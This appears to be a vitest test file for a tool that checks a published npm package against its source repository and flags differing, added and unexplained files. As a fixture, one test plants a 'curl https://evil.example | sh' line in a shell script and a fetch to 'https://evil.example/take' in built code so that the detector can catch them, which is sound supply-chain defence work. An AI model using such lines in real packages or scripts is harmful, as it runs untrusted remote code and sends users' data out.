import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { compareWithRepository } from '../../src/analysis/packages/against-repository.ts';
import type { TreeEntry } from '../../src/collectors/collector.ts';
import { packageItems } from '../../src/collectors/identity/package.ts';
import type { SnapshotNote } from '../../src/domain/snapshot.ts';

const treeOf = (files: Record<string, string>) => ({
  allEntries: Object.entries(files).map(
    ([path, text]): TreeEntry => ({
      path,
      kind: 'file',
      size: text.length,
      oid: createHash('sha1').update(text).digest('hex'),
    }),
  ),
  text: async (path: string) => files[path] ?? null,
});

const REPOSITORY = treeOf({
  'README.md': '# all\n',
  'packages/notes/package.json': '{"name":"@acme/notes"}',
  'packages/notes/README.md': '# Notes\r\n',
  'packages/notes/src/index.ts': "export const where: string = 'https://api.acme.example';\n",
  'packages/notes/src/util.ts': 'export const add = 1;\n',
  'packages/notes/src/unused.ts': 'export const no = 1;\n',
  'packages/notes/bin/run.sh': 'echo run\n',
});
const compare = (files: Record<string, string>) =>
  compareWithRepository(treeOf(files), REPOSITORY, { name: '@acme/notes', directory: '' });

const items = (comparison: SnapshotNote['comparison']) =>
  packageItems({
    kind: 'npm',
    name: 'x',
    format: 'tar',
    sha256: '',
    below: '',
    leftOut: [],
    leftOutCount: 0,
    remarks: [],
    comparison,
  });

describe('a package held against its repository', () => {
  it('is found in the folder that has its name, and is the same where bytes, or texts but for line ends, are', async () => {
    const found = await compare({
      'package.json': '{"name":"@acme/notes","version":"1.0.0"}',
      'README.md': '# Notes\n',
      'bin/run.sh': 'echo run\n',
      'dist/index.js': 'export const where = "https://api.acme.example";\n',
      'dist/index.d.ts': 'export declare const where: string;\n',
      'dist/util.js': 'export const add = 1;\n',
    });
    expect(found).toMatchObject({
      folder: 'packages/notes',
      files: 6,
      same: 3,
      metadata: 2,
      built: 1,
      strange: [],
    });
    expect(found.leftOut.paths).toEqual(['packages/notes/src/unused.ts']);
    expect([found.differing.count, found.added.count, found.unsourced.count]).toEqual([0, 0, 0]);
    const said = items({
      repository: 'github.com/acme/notes',
      commit: 'a'.repeat(40),
      chosen: 'tag',
      ref: 'v1.0.0',
      ...found,
    });
    expect(said.map((i) => `${i.kind} ${i.rule}`)).toEqual(['fact same-as-repository', 'fact built-code']);
  });

  it('names what is another, what is only there, and texts that built code has and its source lacks', async () => {
    const found = await compare({
      'bin/run.sh': 'curl https://evil.example | sh\n',
      'dist/index.js':
        'export const where = "https://api.acme.example"; fetch("https://evil.example/take");\n',
      'dist/vendor.js': 'bundle()\n',
      'setup.js': 'install()\n',
      'logo.png': 'png',
    });
    expect(found.differing.paths).toEqual(['bin/run.sh']);
    expect(found.added.paths).toEqual(['setup.js']);
    expect(found.addedOther.paths).toEqual(['logo.png']);
    expect(found.unsourced.paths).toEqual(['dist/vendor.js']);
    expect(found.strange).toEqual([
      { path: 'dist/index.js', source: 'packages/notes/src/index.ts', texts: ['https://evil.example/take'] },
    ]);
    const comparison = { repository: 'r', commit: 'a'.repeat(40), ref: '', ...found };
    const strengths = (chosen: 'named' | 'newest') =>
      items({ ...comparison, chosen })
        .filter((i) => i.kind === 'lead')
        .map((i) => `${i.rule} ${i.strength}`);
    expect(strengths('named')).toEqual([
      'differs-from-repository moderate',
      'only-in-package moderate',
      'built-code weak',
    ]);
    expect(strengths('newest')).toEqual([
      'differs-from-repository weak',
      'only-in-package weak',
      'built-code weak',
    ]);
    expect(
      items({ ...comparison, chosen: 'named' })
        .filter((i) => i.kind === 'gap')
        .map((i) => i.rule),
    ).toEqual(['compared-in-part']);
  });

  it('that was not compared says why, as a gap', () => {
    expect(items({ problem: 'it does not say which' })).toMatchObject([
      { kind: 'gap', rule: 'not-compared' },
    ]);
  });
});
